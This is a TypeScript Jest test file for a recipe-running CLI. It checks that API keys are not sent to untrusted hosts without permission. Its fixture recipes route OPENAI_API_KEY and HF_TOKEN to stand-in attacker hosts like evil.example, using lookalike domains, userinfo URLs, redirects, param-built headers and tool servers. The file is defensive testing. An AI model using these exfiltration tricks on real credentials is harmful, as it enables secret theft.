import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterEach, beforeEach, describe, expect, it } from '@jest/globals';
import { createWorkspace, type Ended, type Workspace } from '../rig/program.js';

/** Well-known keys that a recipe sends elsewhere. The server is the proxy of all runs: it sees all that leaves. */

const KEY = 'sk-4711-abcdefghijklmnop';

let workspace: Workspace;
let server: Server;
let seen: { readonly url: string; readonly key: string | undefined }[];
let answer: { readonly status: number; readonly headers?: Record<string, string> };

beforeEach(async () => {
  workspace = await createWorkspace();
  seen = [];
  answer = { status: 200 };
  server = createServer((request, response) => {
    request.resume();
    seen.push({ url: String(request.url), key: request.headers.authorization });
    response.writeHead(answer.status, answer.headers).end('{"data":[{"loud":"RED","is_valid":true}]}');
  });
  server.on('connect', (request, socket) => {
    seen.push({ url: String(request.url), key: undefined });
    socket.destroy();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
});
afterEach(async () => {
  server.closeAllConnections();
  await new Promise((resolve) => server.close(resolve));
  await workspace.remove();
});

const own = (): string => `http://127.0.0.1:${(server.address() as AddressInfo).port}`;

const dd = (args: string, more: Readonly<Record<string, string>> = {}): Promise<Ended> =>
  workspace.run(args.split(' '), {
    HTTP_PROXY: own(),
    HTTPS_PROXY: own(),
    XDG_CONFIG_HOME: workspace.path('settings'),
    OPENAI_API_KEY: KEY,
    HF_TOKEN: 'hf_4711abcdefgh',
    MY_COMPANY_KEY: KEY,
    ...more,
  });

const write = (text: string): Promise<void> => workspace.write('recipe.yaml', `name: made\n${text}`);

const seed = 'seed_config: { source: { seed_type: rows, rows: [{ word: red }] } }\n';
const models = (provider: string): string =>
  `model_configs: [{ alias: m, model: x, provider: far, inference_parameters: { timeout: 1 } }]\nproviders: [{ name: far, ${provider} }]\n`;
const asking = 'columns: [{ name: loud, column_type: llm-text, model_alias: m, prompt: "{{ word }}" }]\n';
const service = (url: string, header: string): string =>
  `${seed}columns: [{ name: loud, column_type: custom, required_columns: [word], max_retries: 0, url: "${url}", headers: { Authorization: '${header}' } }]\n`;
const validator = (params: string): string =>
  `${seed}columns: [{ name: ok, column_type: validation, target_columns: [word], ${params} }]\n`;
const tools = `${seed}${models('endpoint: "http://127.0.0.1:9/v1"')}mcp_providers: [{ name: t, provider_type: streamable_http, endpoint: "https://evil.example/mcp", api_key: OPENAI_API_KEY }]\ntool_configs: [{ tool_alias: t, providers: [t] }]\n${asking.replace('model_alias', 'tool_alias: t, model_alias')}`;
const hub = `seed_config: { source: { seed_type: hf, path: datasets/a/b/c.jsonl, endpoint: "https://hub.example" } }\ncolumns: [{ name: loud, column_type: expression, expr: "{{ 1 }}" }]\n`;
const later = `stages:\n  - { name: one, num_records: 1, columns: [{ name: word, column_type: custom, url: "OWN/first" }] }\n  - { name: two, needs: one, columns: [{ name: loud, column_type: custom, url: "https://evil.example/", headers: { x-key: "\${OPENAI_API_KEY}" } }] }\n`;

const EVIL = 'OPENAI_API_KEY to evil.example';

const places: readonly (readonly [place: string, recipe: string, shown: string])[] = [
  ['a provider', `${seed}${models('endpoint: "https://evil.example/v1", api_key: OPENAI_API_KEY')}${asking}`, EVIL],
  ['a provider named as a built-in one', `${seed}${models('endpoint: "https://evil.example/v1", api_key: OPENAI_API_KEY').replaceAll('far', 'openai')}${asking}`, EVIL],
  ['a service', service('https://evil.example/rows', 'Bearer ${OPENAI_API_KEY}'), EVIL],
  ['a header with more in it', service('https://evil.example/', 'a$${OPENAI_API_KEY}${MY_COMPANY_KEY}'), EVIL],
  ['a host that looks like the right one', service('https://api.openai.com.evil.example/', '${OPENAI_API_KEY}'), 'OPENAI_API_KEY to api.openai.com.evil.example'],
  ['a connection that is not encrypted', service('http://api.openai.com/', '${OPENAI_API_KEY}'), 'OPENAI_API_KEY to http://api.openai.com'],
  ['a header that a param completes', `params: { part: { type: string, default: KEY } }\n${service('https://evil.example/', 'Bearer ${OPENAI_API_${{ params.part }}}')}`, EVIL],
  ['a remote validator', validator('validator_type: remote, validator_params: { endpoint_url: "https://evil.example/", headers: { Authorization: "${OPENAI_API_KEY}" } }'), EVIL],
  ['a custom validator', validator('validator_type: custom, validator_params: { url: "https://evil.example/", headers: { Authorization: "${OPENAI_API_KEY}" } }'), EVIL],
  ['a server of tools', tools, EVIL],
  ['a hub of datasets', hub, 'HF_TOKEN to hub.example'],
  ['a later stage', later, EVIL],
]; // prettier-ignore

describe('a well-known key', () => {
  it.each(places)('is not sent elsewhere by %s without permission', async (_, recipe, shown) => {
    await write(recipe.replace('OWN', own()));
    const ended = await dd('run recipe.yaml');
    expect(ended.code).toBe(2);
    expect(ended.stderr).toContain(shown);
    expect(ended.stderr).toContain('nothing was sent');
    expect(ended.stderr).toContain('--allow-hosts');
    expect(ended.stderr).toMatch(/trusted_hosts:/);
    expect(ended.stderr).toMatch(/recipe\.yaml:\d+:\d+/);
    expect(seen).toEqual([]);
  });

  it('hides no host behind an address in an address', async () => {
    await write(service('https://api.openai.com@evil.example/', '${OPENAI_API_KEY}'));
    expect(await dd('run recipe.yaml')).toMatchObject({ code: 2 });
    expect(seen).toEqual([]);
  });

  const far = service('http://llm.example/rows', 'Bearer ${OPENAI_API_KEY}');

  it('is sent with --allow-hosts, and by a retry with it alone', async () => {
    await write(far);
    answer = { status: 500 };
    expect(await dd('run recipe.yaml --allow-hosts')).toMatchObject({ code: 1 });
    expect(seen).toEqual([{ url: 'http://llm.example/rows', key: `Bearer ${KEY}` }]);
    answer = { status: 200 };
    expect((await dd('retry made')).stderr).toContain('nothing was sent');
    expect(seen).toHaveLength(1);
    expect(await dd('retry made --allow-hosts')).toMatchObject({ code: 0 });
  });

  it.each([
    ['trusted_hosts: [http://llm.example]', 0],
    ['trusted_hosts: ["HTTP://LLM.example./x"]', 0],
    ['trusted_hosts: [llm.example]', 2],
    ['trusted_hosts: [example]', 2],
    ['trusted_hosts: http://llm.example', 2],
    ['trusted_hosts: [{ a: 1 }, null, "http://llm.example:81", "*"]', 2],
  ])('is sent where the settings say %s', async (settings, code) => {
    await write(far);
    await workspace.write('settings/dd/settings.yaml', settings);
    expect(await dd('run recipe.yaml')).toMatchObject({ code });
    expect(seen).toHaveLength(code === 0 ? 1 : 0);
  });

  it('that is not set is not missed', async () => {
    await write(far);
    expect((await dd('run recipe.yaml', { OPENAI_API_KEY: ' ' })).stderr).toContain('which is not set');
  });

  it('goes to this machine, and not on to where that points', async () => {
    answer = { status: 307, headers: { location: 'http://evil.example/' } };
    await write(service(`${own()}/rows`, 'Bearer ${OPENAI_API_KEY}'));
    expect(await dd('run recipe.yaml')).toMatchObject({ code: 1 });
    expect(seen).toEqual([{ url: '/rows', key: `Bearer ${KEY}` }]);
  });

  it.each(['plan', 'seed', 'validate --seed', 'check-models', 'render -c loud', 'run --dry-run'])(
    'is not sent by dd %s',
    async (command) => {
      const [, recipe = ''] = command.startsWith('check') ? (places[0] ?? []) : ['', hub];
      await write(recipe);
      const [name = '', ...flags] = command.split(' ');
      const ended = await dd([name, 'recipe.yaml', ...flags].join(' '));
      expect(ended.code).toBe(2);
      expect(ended.stderr).toContain('nothing was sent');
      expect(seen).toEqual([]);
    },
  );
});

describe("a key of the person's own", () => {
  const recipe = `${service('http://llm.example/rows', 'Bearer ${MY_COMPANY_KEY}')}`;

  it('is sent without a question', async () => {
    await write(recipe);
    expect(await dd('run recipe.yaml')).toMatchObject({ code: 0 });
    expect(seen).toEqual([{ url: 'http://llm.example/rows', key: `Bearer ${KEY}` }]);
  });

  it('is listed with its host', async () => {
    await write(recipe);
    expect((await dd('plan recipe.yaml')).stdout).toContain('MY_COMPANY_KEY -> http://llm.example\n');
    expect((await dd('validate recipe.yaml')).stdout).toContain(
      'sends MY_COMPANY_KEY -> http://llm.example\n',
    );
    expect((await dd('run recipe.yaml --dry-run')).stderr).toContain(
      'MY_COMPANY_KEY -> http://llm.example\n',
    );
    expect(seen).toEqual([]);
  });
});

it('what needs permission is a warning of dd validate, and in its JSON and that of dd plan', async () => {
  await write(service('https://evil.example/', '${OPENAI_API_KEY}'));
  const { stderr, stdout, code } = await dd('validate recipe.yaml');
  expect(code).toBe(0);
  expect(stderr).toContain('[key-to-other-host]');
  expect(stdout).toContain('OPENAI_API_KEY -> evil.example, with --allow-hosts only');
  const sends = [
    {
      variable: 'OPENAI_API_KEY',
      host: 'evil.example',
      at: ['columns', 0, 'headers', 'Authorization'],
      known_host: false,
      needs_permission: true,
    },
  ];
  expect(JSON.parse((await dd('validate recipe.yaml --json')).stdout)).toMatchObject({
    recipes: [{ sends }],
  });
  expect(JSON.parse((await dd('plan recipe.yaml --json')).stdout)).toMatchObject({ sends });
  expect(await dd('validate recipe.yaml --strict')).toMatchObject({ code: 2 });
  expect((await dd('validate recipe.yaml --allow-hosts')).stderr).toBe('');
});
